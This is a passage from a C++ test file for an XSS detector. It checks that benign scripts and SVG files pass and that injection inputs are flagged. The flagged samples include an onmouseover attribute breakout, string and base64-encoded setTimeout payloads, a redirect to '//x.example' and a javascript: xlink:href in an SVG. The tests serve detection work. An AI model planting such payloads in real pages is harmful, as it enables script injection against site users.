  EXPECT_EQ(RuleOf(XssDetector(), "\" onmouseover=\"alert(1)\" x=\""), "xss.attribute_breakout");
}

TEST(XssTest, ElementLookupsAndTimersGivenFunctionsAreNotEvaluators) {
  for (const char* v : {
           "document.querySelector('#menu').addEventListener('click', () => nav.toggle());",
           "document.getElementById('menu').hidden = true;",
           "it isn't rendered until you clone it: document.importNode(tpl.content, true).",
           "useEffect(() => {\n  const id = setInterval(tick, 1000);\n  return () => "
           "clearInterval(id);\n}, []);",
           "setTimeout(() => setOpen(false), 300)",
           "setTimeout(function () { done = true; }, 10)"}) {
    EXPECT_EQ(RuleOf(XssDetector(), v), "") << v;
  }
  for (const char* v : {"setTimeout(name)", "setTimeout('alert(1)')", "setTimeout(alert, 0, 1)",
                        "setInterval(atob('YWxlcnQoMSk='))",
                        "setTimeout(location.hash.slice(1))", "document.write('<b>x</b>')",
                        "document.location.assign('//x.example')"}) {
    EXPECT_EQ(RuleOf(XssDetector(), v), "xss.js_breakout") << v;
  }
}

TEST(XssTest, SvgFilesWithTheirXmlDeclarationAndXlinkNamespace) {
  for (const char* v :
       {"<?xml version=\"1.0\" encoding=\"UTF-8\"?><svg xmlns=\"http://www.w3.org/2000/svg\" "
        "width=\"120\" height=\"40\"><text x=\"4\" y=\"28\" fill=\"#333\">ACME</text></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" "
        "viewBox=\"0 0 10 10\"><defs><linearGradient id=\"g\"><stop offset=\"0\" "
        "stop-color=\"#f00\"/></linearGradient></defs><rect width=\"10\" height=\"10\" "
        "fill=\"url(#g)\"/></svg>"}) {
    EXPECT_EQ(RuleOf(XssDetector(), v), "") << v;
  }
  // Another processing instruction, an xlink:href, or script keep the verdict.
  EXPECT_NE(RuleOf(XssDetector(),
                   "<?xml version=\"1.0\"?><?xml-stylesheet href=\"x.xsl\"?><svg "
                   "xmlns=\"http://www.w3.org/2000/svg\"><rect/></svg>"),
            "");
  EXPECT_NE(RuleOf(XssDetector(),
                   "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a "
                   "xlink:href=\"javascript:alert(1)\"><rect/></a></svg>"),
            "");
}

}  // namespace
}  // namespace fnguard::detect
